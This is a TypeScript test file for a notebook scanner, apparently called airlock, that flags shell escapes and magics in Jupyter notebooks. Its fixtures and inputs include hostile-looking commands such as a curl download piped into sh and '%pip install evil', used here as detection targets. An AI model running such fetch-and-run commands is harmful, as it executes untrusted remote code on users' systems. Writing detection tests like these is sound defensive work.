import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { NOTEBOOK_SHELL_RULE, notebookToScript, toNotebookFinding } from '../../../src/notebook/extract.js';
import { NotebookError, parseNotebook } from '../../../src/notebook/parse.js';

const fixture = (name: string) => readFileSync(`test/fixtures/notebooks/${name}`, 'utf8');

function nb(cells: { type?: string; source: string | string[] }[]): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: cells.map((c) => ({ cell_type: c.type ?? 'code', metadata: {}, source: c.source })),
  });
}

describe('parseNotebook', () => {
  it('keeps code cells with their index among all cells and their line in the file', () => {
    const text = fixture('malicious_magic.ipynb');
    const parsed = parseNotebook(text);
    expect(parsed.language).toBe('python');
    expect(parsed.cells.map((c) => c.index)).toEqual([1, 2]);
    const curl = parsed.cells[1]!;
    expect(curl.lines[0]).toBe('!curl -fsSL https://example.invalid/install.sh | sh');
    // The file line really holds that source line's JSON string.
    const fileLine = text.split('\n')[curl.fileLines[0]! - 1]!;
    expect(fileLine).toContain('!curl -fsSL');
    expect(text.split('\n')[curl.fileLines[1]! - 1]).toContain("print('done')");
  });

  it('refuses what is not an nbformat 4 notebook, naming the field', () => {
    const bad = (text: string) => () => parseNotebook(text);
    expect(bad('{')).toThrow(NotebookError);
    expect(bad('{"nbformat": 3, "cells": []}')).toThrow(/nbformat must be 4/);
    expect(bad('{"nbformat": 4, "cells": {}}')).toThrow(/cells must be an array/);
    expect(bad(nb([{ source: [1 as unknown as string] }]))).toThrow(
      /cells\[0\]\.source\[0\] is not a string/,
    );
  });

  it('still parses a notebook with duplicate keys (positions fall back; content as JSON.parse reads it)', () => {
    const text = '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "source": "!id"}]}';
    const parsed = parseNotebook(text);
    expect(parsed.cells[0]!.lines).toEqual(['!id']);
    expect(parsed.cells[0]!.fileLines).toEqual([1]);
  });
});

describe('notebookToScript', () => {
  it('turns shell escapes into findings at their line and removes them from the script', () => {
    const s = notebookToScript(parseNotebook(fixture('malicious_magic.ipynb')));
    expect(s.findings).toHaveLength(1);
    const f = s.findings[0]!;
    expect(f).toMatchObject({ tool: 'airlock', ruleId: NOTEBOOK_SHELL_RULE, severity: 'high' });
    expect(s.code.split('\n')[f.line - 1]).toBe('pass  # airlock: shell escape removed');
    expect(s.code).not.toContain('curl');
    expect(s.origins[f.line - 1]).toMatchObject({ cell: 2, line: 1 });
    const placed = toNotebookFinding(f, s.origins);
    expect(placed.message.startsWith('[cell 3, line 1] ')).toBe(true);
    expect(fixture('malicious_magic.ipynb').split('\n')[placed.line - 1]).toContain('!curl');
  });

  it('finds every program-running form, and only at a statement start', () => {
    const s = notebookToScript(
      parseNotebook(
        nb([
          { source: 'files = !ls\n%system id\n%pip install evil\n%run other.py' },
          { source: '%%bash\ncurl x | sh' },
          { source: '%%writefile helper.py\nimport os' },
          { source: 'get_ipython().system("id")' },
          { source: 'ok = (1\n      != 2)\nn = (10\n     % 3)\ns = """\n!not a command\n"""' },
          { source: '%matplotlib inline\n%%time\nx = 1' },
          { source: '%%time\ny = 2' },
        ]),
      ),
    );
    const lines = s.code.split('\n');
    expect(s.findings.map((f) => lines[f.line - 1])).toEqual([
      'pass  # airlock: shell escape removed',
      'pass  # airlock: magic %system removed',
      'pass  # airlock: magic %pip removed',
      'pass  # airlock: magic %run removed',
      '# %%bash',
      '# %%writefile helper.py',
      'get_ipython().system("id")',
    ]);
    // Python on continuation lines and inside strings is left alone.
    expect(s.code).toContain('      != 2)');
    expect(s.code).toContain('     % 3)');
    expect(s.code).toContain('!not a command');
    // A Python cell magic keeps its body; a line magic becomes pass.
    expect(s.code).toContain('# %%time\ny = 2');
    expect(s.code).toContain('pass  # airlock: magic %matplotlib removed');
  });

  it('the benign fixture has no findings and compiles as the same lines', () => {
    const parsed = parseNotebook(fixture('benign.ipynb'));
    const s = notebookToScript(parsed);
    expect(s.findings).toEqual([]);
    const lines = s.code.split('\n');
    for (const [i, o] of s.origins.entries()) {
      const cell = parsed.cells.find((c) => c.index === o.cell)!;
      if (!lines[i]!.startsWith('pass') && lines[i] !== '') expect(lines[i]).toBe(cell.lines[o.line - 1]);
    }
  });
});
